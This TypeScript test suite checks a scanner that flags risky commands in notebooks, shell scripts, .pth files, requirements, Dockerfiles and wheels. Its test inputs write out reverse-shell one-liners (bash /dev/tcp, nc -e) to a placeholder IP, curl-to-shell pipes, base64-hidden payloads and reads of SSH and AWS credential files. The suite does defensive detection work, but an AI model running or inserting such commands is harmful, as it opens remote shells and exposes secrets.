import { describe, expect, test } from 'vitest';
import { codeJudge } from '../../src/code/judge.ts';
import { scanBytes } from '../scan/build/scanned.ts';
import { zip } from '../scan/build/zip.ts';

/** Code of other kinds than a module of Python: `severity kind subject`. */

async function judged(name: string, text: string): Promise<string[]> {
  const judgement = await codeJudge()(name, text);
  return (judgement?.evidence ?? []).map(({ severity, kind, subject }) => `${severity} ${kind} ${subject}`);
}

const notebook = (...cells: string[]) =>
  JSON.stringify({
    cells: cells.map((source) => ({ cell_type: 'code', source, outputs: [] })),
    metadata: { kernelspec: { language: 'python' } },
  });

describe('a notebook', () => {
  test('is what a person runs: its commands and its code are told', async () => {
    const text = notebook('!pip install x\nimport os\nos.system("id")', '%%bash\ncurl https://example.com/x | sh\n');
    expect((await judged('demo.ipynb', text)).sort()).toEqual([
      'info fetched-code fetched-code',
      'info install install',
      'medium process os.system',
    ]);
  });

  test('that hides what it runs is dangerous', async () => {
    expect(await judged('x.ipynb', notebook('import base64\nexec(base64.b64decode("cHJpbnQoMSk="))'))).toContain(
      'critical hidden-code exec',
    );
    expect(await judged('x.ipynb', notebook('!echo aWQ= | base64 -d | sh'))).toEqual([
      'critical hidden-code hidden-code',
    ]);
  });

  test('that is no notebook is not understood', async () => {
    expect((await codeJudge()('x.ipynb', '{"cells": ['))?.gaps).toHaveLength(1);
  });
});

describe('commands of a shell', () => {
  test.each([
    ['curl -fsSL https://example.com/x | bash', 'medium fetched-code fetched-code'],
    ['bash -c "$(curl -fsSL https://example.com/x)"', 'medium fetched-code fetched-code'],
    ['echo aWQ= | base64 --decode | sudo sh', 'critical hidden-code hidden-code'],
    ['powershell -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBi', 'critical hidden-code hidden-code'],
    ['bash -i >& /dev/tcp/192.0.2.1/4444 0>&1', 'critical socket socket'],
    ['nc 192.0.2.1 4444 -e /bin/sh', 'critical socket socket'],
    ['cat ~/.ssh/id_rsa', 'medium secret ~/.ssh/id_rsa'],
    ['wget https://example.com/x', 'info network network'],
    ['pip install torch', 'info install install'],
  ])('%s', async (line, deed) => {
    expect(await judged('run.sh', `#!/bin/sh\n${line}\n`)).toEqual([deed]);
  });

  test('over several lines are one', async () => {
    expect(await judged('run.sh', 'curl https://example.com/x \\\n  | sh\n')).toEqual([
      'medium fetched-code fetched-code',
    ]);
  });

  test('are never called clean', async () => {
    expect((await codeJudge()('run.sh', 'echo hello\n'))?.gaps).toMatchObject([{ start: 0, end: 11 }]);
  });
});

describe('a path configuration', () => {
  test('that imports is run whenever Python starts', async () => {
    expect(await judged('x.pth', '/opt/lib\nimport os; os.system("id")\n')).toEqual([
      'medium path-configuration import',
      'critical process os.system',
    ]);
  });

  test('of paths alone is none', async () => {
    expect(await codeJudge()('x.pth', '/opt/lib\n# import os\nimportant\n')).toBeNull();
  });
});

test('requirements tell what does not come from the index, and what comes unencrypted', async () => {
  const text =
    'torch==2.0 # see https://example.com\ngit+https://github.com/x/y@main\n--index-url http://192.0.2.1/simple\n--extra-index-url https://example.com/simple\n';
  expect(await judged('requirements.txt', text)).toEqual([
    'info package-source git+https://github.com/x/y@main',
    'medium package-source http://192.0.2.1/simple',
    'info package-source https://example.com/simple',
  ]);
});

test('a Dockerfile is told with what it is built on, and what it fetches', async () => {
  const text =
    'FROM --platform=linux/amd64 python:3.12 AS base\nRUN curl -LsSf https://example.com/install.sh | sh\nRUN echo aWQ= | base64 -d | sh\n';
  expect(await judged('Dockerfile', text)).toEqual([
    'info fetched-code fetched-code',
    'critical hidden-code hidden-code',
    'info base-image python:3.12',
  ]);
});

describe('a script without a name that says so', () => {
  test.each([
    [
      '#!/usr/bin/env python3\nif __name__ == "__main__":\n    import os\n    os.system("id")\n',
      'critical process os.system',
    ],
    ['#!/bin/bash\ncat ~/.aws/credentials\n', 'medium secret ~/.aws/credentials'],
  ])('%j', async (text, deed) => {
    expect(await judged('start', text)).toContain(deed);
  });

  test('in another language is left to who says that it was not judged', async () => {
    expect(await codeJudge()('start', '#!/usr/bin/perl\n')).toBeNull();
    expect(
      (await scanBytes(Buffer.from('#!/usr/bin/perl\n'), 'start', { code: codeJudge() })).inconclusive,
    ).toMatchObject([{ why: 'a program: not judged' }]);
  });
});

test('code within a wheel is judged where it lies', async () => {
  const wheel = zip([{ name: 'pkg/__init__.py', data: Buffer.from('import os\nos.system("id")\n') }]);
  const scan = await scanBytes(wheel, 'pkg-1.0-py3-none-any.whl', { code: codeJudge() });
  expect(scan).toMatchObject({
    verdict: 'dangerous',
    evidence: expect.arrayContaining([
      expect.objectContaining({ kind: 'process', subject: 'os.system', within: ['pkg/__init__.py'], offset: 10 }),
    ]),
  });
});

test('without anyone who judges code it is not judged, and not clean', async () => {
  expect(await scanBytes(Buffer.from('x = 1\n'), 'model.py')).toMatchObject({ verdict: 'inconclusive' });
  expect(await scanBytes(Buffer.from('x = 1\n'), 'model.py', { code: codeJudge() })).toMatchObject({
    verdict: 'clean',
    format: 'Python',
  });
});
